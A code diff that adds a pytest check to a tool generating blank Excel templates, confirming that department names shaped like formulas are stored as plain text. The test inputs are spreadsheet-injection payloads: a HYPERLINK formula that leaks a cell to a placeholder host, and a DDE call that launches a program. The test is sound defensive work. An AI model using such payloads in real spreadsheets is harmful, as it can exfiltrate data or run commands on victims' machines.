@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import html
+import io
 import shutil
 
 import openpyxl
@@ -10,6 +12,8 @@ import pytest
 from generator.records import fields as T
 from generator.records.blank import file_name, template_kinds, write_templates
 from generator.records.dataset import load_dataset
+
+from .conftest import SECOND_BODY
 
 
 @pytest.fixture
@@ -92,3 +96,23 @@ def test_guide_links_every_template():
     guide = (ROOT / "content" / "guide" / "index.md").read_text(encoding="utf-8")
     for kind in template_kinds():
         assert f"(templates/{file_name(kind)})" in guide, kind.name
+
+
+def test_names_excel_would_run_are_text_in_every_workbook_we_write():
+    """A department named like a formula (=HYPERLINK, a DDE call) goes into the dropdowns' hidden sheet of every
+    blank workbook: as text, never as a formula Excel would run when the sheet is opened."""
+    import zipfile
+
+    from generator.records.blank import template_kinds, workbook
+    from generator.records.dataset import load_dataset
+
+    ds, _ = load_dataset(SECOND_BODY)
+    names = ['=HYPERLINK("https://x.example/?"&A1,"点我")', "=cmd|' /C calc'!A0", "=1+1"]
+    for dept, name in zip(ds.departments.values(), names):
+        dept.name = name
+    for kind in template_kinds():
+        with zipfile.ZipFile(io.BytesIO(workbook(kind, ds))) as z:
+            sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
+            assert not any("<f>" in s or "<f " in s for s in sheets), kind.name
+            if any(f.ref == "departments" for f in kind.fields):  # the names are there, as text
+                assert any("=cmd|' /C calc'!A0" in html.unescape(s) for s in sheets), kind.name
